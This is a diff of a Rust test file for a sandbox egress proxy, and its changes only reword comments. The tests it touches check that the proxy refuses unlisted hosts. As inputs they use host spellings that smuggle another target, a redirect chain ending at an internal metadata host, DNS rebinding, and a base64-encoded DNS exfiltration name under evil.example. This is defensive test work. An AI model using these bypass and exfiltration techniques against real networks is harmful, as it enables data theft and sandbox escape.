@@ -1,4 +1,4 @@
-//! Attempts to reach what is not on the list, each with its harmless twin.
+//! Tests attempts to reach hosts that are not listed, each with a harmless twin that must work.
 
 use std::collections::VecDeque;
 use std::sync::Mutex;
@@ -9,7 +9,7 @@ use wieldy_sandbox::proxy::Reason;
 
 use super::*;
 
-/// Asks for each host in both ways, and returns those whose answer is another than expected.
+/// Requests each host in both ways, and returns those with an unexpected answer.
 async fn unexpected(world: &World, hosts: &[String], expected: &[(&str, &str)]) -> Vec<(String, String)> {
     let mut found = Vec::new();
     for host in hosts {
@@ -81,7 +81,8 @@ async fn a_listed_address_is_reached_and_its_neighbours_are_not() {
     assert_eq!(unexpected(&world, &["127.0.0.1:1".into()], &[("403", "port")]).await, []);
 }
 
-/// Every name leads to the trap, and every name below `example.com` is open: only the spelling protects it.
+/// Every name resolves to the trap, and every name below `example.com` is allowed: only the check of the spelling
+/// protects the trap.
 #[tokio::test]
 async fn odd_spellings_of_hosts_are_refused() {
     let trap = Host::named("trap").await;
@@ -131,7 +132,7 @@ async fn odd_spellings_of_hosts_are_refused() {
     assert_eq!(unexpected(&world, &hosts, &[("403", "spelling")]).await, []);
     assert_eq!(world.refusals().len(), 2 * hosts.len());
 
-    // These never become a target of a request, or not the one that they seem to be.
+    // These are not valid as a target, or are another target than they look like.
     let confused = [
         "a.example.com#evil.example",
         "#@a.example.com",
@@ -186,7 +187,7 @@ async fn a_refusal_tells_the_client_what_was_refused_and_how_to_allow_it() {
     assert_eq!(world.ask("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n").await, expected);
     let refusal = Refusal { host: "evil.example".into(), port: 443, reason: Reason::NotListed };
     assert_eq!(world.refusals(), [refusal]);
-    // A client that goes on sending its body is heard out for a while, and not cut off by a reset.
+    // The proxy reads the body of a refused request for a while, so that the client gets no reset.
     let mut client = world.connect().await;
     let head = "POST http://evil.example:443/ HTTP/1.1\r\nHost: evil.example:443\r\nContent-Length: 500000\r\n\r\n";
     client.write_all(head.as_bytes()).await.unwrap();
@@ -200,7 +201,7 @@ async fn a_refusal_tells_the_client_what_was_refused_and_how_to_allow_it() {
 async fn each_hop_of_a_redirect_is_checked() {
     let inside = Host::named("metadata").await;
     let inside_port = inside.port();
-    // /N leads to /N+1, and /last out of what is allowed.
+    // /N redirects to /N+1, and /last to a host that is not allowed.
     let host = Host::new(move |head| {
         let path = head.split(' ').nth(1).unwrap();
         let host = head.lines().find_map(|line| line.strip_prefix("host: ")).unwrap();
@@ -213,7 +214,7 @@ async fn each_hop_of_a_redirect_is_checked() {
     })
     .await;
     let world = World::new(&[format!("hops.example:{}=private", host.port())]).await;
-    // Follows redirects as a client would, and says how many there were and how it ended.
+    // Follows redirects as a client would, and returns their number and the last answer.
     let follow = async |begin: &str| {
         let mut url = format!("http://hops.example:{}{begin}", host.port());
         for hop in 0..10 {
@@ -235,7 +236,7 @@ async fn each_hop_of_a_redirect_is_checked() {
     assert_eq!(world.refusals(), [refusal.clone(), refusal]);
 }
 
-/// 127.0.0.1 is granted here and so stands for a public address; 127.0.0.2 is not.
+/// 127.0.0.1 is granted and so plays a public address; 127.0.0.2 is not granted.
 #[tokio::test]
 async fn a_name_that_changes_its_address_gains_nothing() {
     let outside = Host::named("outside").await;
@@ -248,7 +249,7 @@ async fn a_name_that_changes_its_address_gains_nothing() {
     })
     .await;
     let name = format!("turncoat.example:{port}");
-    // Were the name resolved a second time to connect, the second answer would be used up here.
+    // A second lookup for the connection would already have used the second answer.
     assert_eq!(world.get(&name).await, page_passed("outside"));
     assert_eq!(status(&world.get(&name).await), ("403", "private-address"));
     assert_eq!(world.tunnel(&name).await.0, ESTABLISHED);
@@ -280,7 +281,7 @@ async fn a_name_is_resolved_only_if_it_is_listed() {
         Ok(Vec::new())
     })
     .await;
-    // A name can carry data out: not even the question may leave.
+    // A name can carry data out, so it must not even be resolved.
     assert_eq!(status(&world.get("c2VjcmV0.evil.example").await), ("403", "not-listed"));
     assert_eq!(asked.load(Ordering::Relaxed), 0);
     assert_eq!(status(&world.get("good.example").await).0, "502");
